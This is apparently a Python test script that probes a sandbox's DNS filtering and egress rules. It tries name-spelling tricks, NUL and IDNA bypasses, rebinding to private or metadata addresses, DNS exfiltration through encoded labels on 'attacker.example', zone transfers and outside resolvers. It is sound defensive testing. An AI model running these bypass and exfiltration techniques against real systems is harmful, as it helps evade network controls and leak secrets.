"""Names: how they are written, what a look-up tells to whom, and where a name leads.

Arguments: the port of every server, and the one of the DNS server that nono asks.
"""

import contextlib
import errno
import os
import select
import socket
import struct
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor

from .attempt import arguments, attempt

SECONDS = 10
A, PTR, TXT, AAAA, ANY = 1, 12, 16, 28, 255
EXISTS = "allowed.example"
SECRETS = ("secret.attacker.example", "c2VjcmV0.attacker.example", "secret.allowed.example")
LEADING = (
    *("metadata", "loopback", "mapped", "private", "nat64", "six-to-four", "unspecified"),
    *("provider", "both"),
)

Made = tuple[str, Callable[[], object]]
Labels = tuple[bytes, ...]


def look_up(labels: Labels, kind: int = A) -> tuple[int, list[bytes]]:
    """The response code and the records of an answer, of labels as they are."""
    name = b"".join(bytes([len(each)]) + each for each in labels) + b"\0"
    query = struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + name + struct.pack("!HH", kind, 1)
    with socket.create_connection(("127.0.0.1", 53), SECONDS) as sock:
        sock.sendall(struct.pack("!H", len(query)) + query)
        with sock.makefile("rb") as answers:
            answer = answers.read(int.from_bytes(answers.read(2), "big"))
    if len(answer) < 12:
        raise OSError(errno.ECONNRESET, "no answer")
    code, count, place = answer[3] & 15, int.from_bytes(answer[6:8], "big"), len(query)
    found = []
    for _ in range(count):
        size = int.from_bytes(answer[place + 10 : place + 12], "big")
        found.append(answer[place + 12 : place + 12 + size])
        place += 12 + size
    return code, found


def reach(labels: Labels, port: int, *, blocking: bool = True) -> object:
    """Look a name up, connect to what it gives, and say what comes."""
    code, found = look_up(labels)
    if code or not found:
        raise OSError(errno.ENOENT, "no such name")
    return connect(socket.inet_ntoa(found[0]), port, blocking)


def connect(host: str, port: int, blocking: bool = True) -> object:
    with socket.socket() as sock:
        sock.setblocking(blocking)
        with contextlib.suppress(BlockingIOError):
            sock.connect((host, port))
        select.select([], [sock], [], SECONDS)
        if error := sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
            raise OSError(error, os.strerror(error))
        sock.settimeout(SECONDS)
        return sock.recv(100)


def split(name: str) -> Labels:
    return tuple(name.encode().split(b"."))


def spelled(port: int) -> Iterator[Made]:
    """The same name, in the ways in which the DNS and a host may write it."""
    for name in (
        "allowed.example",
        "ALLOWED.Example",
        "xn--bcher-kva.example",
        "XN--BCHER-KVA.EXAMPLE",
    ):
        yield f"same: {name}", lambda n=name: reach(split(n), port)
    for name in (
        "allowed.example.",
        "Allowed.EXAMPLE",
        "bücher.example",
        "BÜCHER.example",
        "bücher\u3002example",
    ):
        yield f"same: libc {name!a}", lambda n=name: by_libc(n, port)


def by_libc(name: str, port: int) -> object:
    found = socket.getaddrinfo(
        name.encode("idna") if not name.isascii() else name, port, socket.AF_INET
    )
    return connect(str(found[0][4][0]), port)


def others(port: int) -> Iterator[Made]:
    """Names that are near to an allowed one."""
    long = (b"a" * 63,) * 3
    names: dict[str, Labels] = {
        "denied": split("denied.example"),
        "below": split("www.allowed.example"),
        "above": split("example"),
        "longer": split("notallowed.example"),
        "other end": split("allowed.example.denied.example"),
        "NUL at the end": (b"allowed", b"example\0"),
        "NUL in the name": (b"allowed", b"example\0", b"denied", b"example"),
        "NUL between": (b"allowed\0", b"example"),
        "dot in a label": (b"allowed.example",),
        "dot at an end": (b"allowed", b"example."),
        "backslash": (b"allowed\\046example",),
        "blank": (b"allowed", b"example "),
        "new line": (b"allowed", b"example\n"),
        "star": (b"*", b"example"),
        "longest label": (b"a" * 63, b"example"),
        "longest name": (*long, b"a" * 61),
        "too long a name": (*long, b"a" * 62, b"allowed", b"example"),
        "UTF-8": ("bücher".encode(), b"example"),
        "Latin-1": ("bücher".encode("latin-1"), b"example"),
        "full-width": ("ａｌｌｏｗｅｄ".encode(), b"example"),
        "other A-label": split("xn--bcher-kvb.example"),
        "a number": split("allowed.example.1"),
        "an address": split("127.0.0.1"),
        "localhost": split("localhost"),
        "below localhost": split("allowed.example.localhost"),
        "empty": (),
    }
    for name, labels in names.items():
        for blocking in (True, False):
            yield f"{name}, {blocking}", lambda n=labels, b=blocking: reach(n, port, blocking=b)


def other_ports(port: int) -> Iterator[Made]:
    for other in (port - 1, port + 1, 443, 80, 0):
        for blocking in (True, False):
            yield (
                f"{other - port} {blocking}",
                lambda o=other, b=blocking: reach(split(EXISTS), o, blocking=b),
            )
    code, found = look_up(split(EXISTS))
    assert code == 0
    for near in (b"\xc6\x12\x00\x00", b"\xc6\x13\xff\xff", b"\xc6\x12\xee\x01", bytes(4)):
        yield f"synthetic {near.hex()}", lambda n=near: connect(socket.inet_ntoa(n), port)
    yield "the secret's", lambda: connect(socket.inet_ntoa(look_up(split(SECRETS[0]))[1][0]), port)
    assert found


def leading(port: int) -> Iterator[Made]:
    """Allowed names, and what they resolve to is not."""
    for name in LEADING:
        for number, blocking in ((port, True), (port, False), (443, True), (443, False)):
            yield (
                f"{name} {number == port} {blocking}",
                lambda n=name, p=number, b=blocking: reach(
                    split(f"{n}.leads.example"), p, blocking=b
                ),
            )


def together(attacks: Iterator[Made]) -> Iterator[Made]:
    """All at once, since a refusal may come a second later."""
    with ThreadPoolExecutor(64) as threads:
        running = [(name, threads.submit(attack)) for name, attack in attacks]
        for name, each in running:
            yield name, each.result


def secrets() -> Iterator[Made]:
    """Look-ups that would tell somebody. Won is what gives anything but a number of our own."""
    for name in SECRETS:
        for kind in (A, AAAA, TXT, PTR, ANY, 2, 5, 6, 15, 33, 64, 65, 10, 255):
            yield f"{kind} {name}", lambda n=name, k=kind: told(split(n), k)
    for name in ("4.4.8.8.in-addr.arpa", "1.0.0.127.in-addr.arpa", f"{'0.' * 32}ip6.arpa"):
        yield f"PTR {name}", lambda n=name: told(split(n), PTR)
    for kind in (251, 252):
        yield f"transfer {kind}", lambda k=kind: told(split("attacker.example"), k)


def told(labels: Labels, kind: int) -> object:
    code, found = look_up(labels, kind)
    real = [
        each
        for each in found
        if each[:2] not in (b"\xc6\x12", b"\xc6\x13") and b"localhost" not in each
    ]
    if not real:
        raise OSError(errno.ENODATA, str(code))
    return real


def elsewhere(port: int) -> Iterator[Made]:
    """Other servers of names."""
    for host, number in (
        ("127.0.0.1", port),
        ("8.8.8.8", 53),
        ("1.1.1.1", 853),
        ("127.0.0.53", 53),
        ("127.0.0.1", 5353),
    ):
        yield f"{host}:{number}", lambda h=host, n=number: connect(h, n)
    for host in ("cloudflare-dns.com", "dns.google", "one.one.one.one"):
        for number in (443, 853, 53):
            yield f"{host}:{number}", lambda h=host, n=number: reach(split(h), n)


def main() -> None:
    port, dns = map(int, arguments())
    for title, attacks in (
        ("spelled", spelled(port)),
        ("others", others(port)),
        ("other ports", other_ports(port)),
        ("leading", together(leading(port))),
        ("secrets", secrets()),
        ("elsewhere", elsewhere(dns)),
    ):
        for name, attack in attacks:
            attempt(f"{title}: {name}", attack)


if __name__ == "__main__":
    main()
